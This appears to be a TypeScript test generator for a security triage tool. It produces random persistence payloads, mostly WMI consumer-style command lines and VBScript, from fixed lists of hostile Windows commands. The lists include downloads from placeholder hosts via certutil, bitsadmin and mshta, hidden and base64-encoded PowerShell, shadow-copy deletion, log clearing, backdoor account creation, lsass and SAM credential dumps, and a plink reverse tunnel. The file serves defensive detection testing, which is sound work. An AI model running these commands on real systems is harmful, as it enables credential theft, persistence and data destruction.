import type { PayloadSource } from '../../../lib/triage';
import { randomOf } from '../payload/hostile-inputs';

const COMMANDS = [
  'certutil -decode a b',
  'certutil.exe -urlcache -f http://a.example/x C:\\x.bin',
  'curl -o a http://b.example/c.exe',
  'bitsadmin /transfer j http://c.example/d C:\\Users\\Public\\d.exe',
  'vssadmin delete shadows /all /quiet',
  'wevtutil cl System',
  'net user helper Passw0rd! /add',
  'schtasks /create /tn a /tr "wscript C:\\ProgramData\\a.vbs" /sc onstart',
  'procdump -ma lsass.exe C:\\Windows\\Temp\\l.dmp',
  'rundll32 C:\\Users\\Public\\a.dll,Start',
  'mshta http://d.example/a.hta',
  'powershell -nop -w hidden -c "iex $env:x"',
  'powershell -ep bypass -f \\\\srv.example\\share\\a.ps1',
  'wmic process call create "cmd /c calc"',
  'C:\\Program Files\\Vendor\\agent.exe --server https://e.example',
  'reg save HKLM\\SAM C:\\s.hiv',
  'C:\\Windows\\Temp\\svchost.exe -k',
  'python C:\\Temp\\a.py',
  'C:\\Tools\\plink.exe -N -R 3389:127.0.0.1:3389 u@g.example',
  'C:\\Tools\\AnyDesk.exe --silent',
  'C:\\Tools\\svch0st.exe -k',
  'msiexec /i C:\\Install\\a.msi /qn',
] as const;

const STATEMENTS = [
  'Set s = CreateObject("WScript.Shell")',
  's.Run "cmd /c net1 localgroup Administrators helper /add", 0',
  'x.Open "GET", "http://f.example/a.bin", False',
  'Set x = CreateObject("Msxml2." & "XMLHTTP")',
  'ExecuteGlobal StrReverse("txet a")',
  'Set d = CreateObject("System.Security.Cryptography.FromBase64Transform")',
  "' a comment: iex http://no.example",
  'total = total & Chr(13) & Chr(10)',
] as const;

/** A payload that somebody might write: commands in a shell, encoded or plain, or a script; from a seed. */
export function plausibleSource(seed: number): PayloadSource {
  const random = randomOf(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const some = (items: readonly string[], by: string): string =>
    Array.from({ length: 1 + Math.floor(random() * 3) }, () => pick(items)).join(by);
  const kind = random();
  if (kind < 0.25) return { consumerType: 'Script', destination: some(STATEMENTS, '\r\n') };
  if (kind < 0.45) return { consumerType: 'Command Line', destination: pick(COMMANDS) };
  if (kind < 0.65) return { consumerType: 'Command Line', destination: `cmd.exe /c ${some(COMMANDS, ' & ')}` };
  if (kind < 0.8) {
    const encoded = Buffer.from(some(COMMANDS, '; '), 'utf16le').toString('base64');
    return { consumerType: 'Command Line', destination: `powershell -NonI -enc ${encoded}` };
  }
  const text = pick(COMMANDS).replace(/[\\"]/g, '\\$&');
  return { consumerType: 'Command Line', destination: ` "%COMSPEC% /c ${text}"` };
}
